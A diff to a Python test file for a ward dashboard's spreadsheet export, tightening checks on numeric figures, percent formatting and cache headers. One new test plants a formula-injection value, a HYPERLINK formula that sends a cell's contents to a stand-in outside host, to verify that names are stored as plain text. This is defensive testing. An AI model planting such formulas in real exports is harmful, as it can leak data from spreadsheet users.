@@ -116,18 +116,25 @@ def test_xlsx_has_the_same_figures_and_flags(facts, persona_client):
         url("dashboard-xlsx", facts.ward.pk, period="2026-Q3")
     )
     assert response.status_code == 200
+    assert "no-store" in response["Cache-Control"]
     book = load_workbook(io.BytesIO(response.content))
-    summary = {row[0]: row[1] for row in book.worksheets[0].iter_rows(values_only=True)}
+    summary = {
+        row[0]: row[1:3] for row in book.worksheets[0].iter_rows(values_only=True)
+    }
     with translation.override("vi"):
         regular = str(dash.FIGURE_BY_KEY["regular"].label)
         attendance = str(dash.FIGURE_BY_KEY["attendance"].label)
         missed = str(dash.FLAG_BY_KEY["missed_regular"].label)
         few = str(dash.FLAG_BY_KEY["few_officials"].label)
         flag_labels = {str(flag.label) for flag in dash.FLAGS}
-    assert summary[regular] == "5 / 6"
-    assert summary[attendance] == "88,9 %"
-    assert summary[missed] == 1
-    assert summary[few] == 1
+    assert summary[regular] == (5, 6)  # numbers, not the text "5 / 6"
+    assert summary[attendance][0] == pytest.approx(0.889)
+    attendance_row = next(
+        row for row in book.worksheets[0].iter_rows() if row[0].value == attendance
+    )
+    assert attendance_row[1].number_format == "0.0%"
+    assert summary[missed][0] == 1
+    assert summary[few][0] == 1
     cells = list(book.worksheets[2].iter_rows(values_only=True))
     header = cells[0]
     assert flag_labels <= set(header)
@@ -135,6 +142,24 @@ def test_xlsx_has_the_same_figures_and_flags(facts, persona_client):
     assert by_name[facts.cell.name][missed] == 1
     assert by_name[facts.cell.name][few] == 0
     assert by_name[facts.cell2.name][few] == 1
+
+
+def test_xlsx_writes_names_as_text_never_formulas(facts, persona_client):
+    import zipfile
+
+    facts.cell.name = '=HYPERLINK("http://example.invalid/"&A2,"Bấm")'
+    facts.cell.save()
+
+    response = persona_client("committee").get(
+        url("dashboard-xlsx", facts.ward.pk, period="2026-Q3")
+    )
+
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(name) for name in sheets)
+    book = load_workbook(io.BytesIO(response.content))
+    names = [row[0] for row in book.worksheets[2].iter_rows(values_only=True)]
+    assert facts.cell.name in names
 
 
 def test_pdf_summary(facts, persona_client):
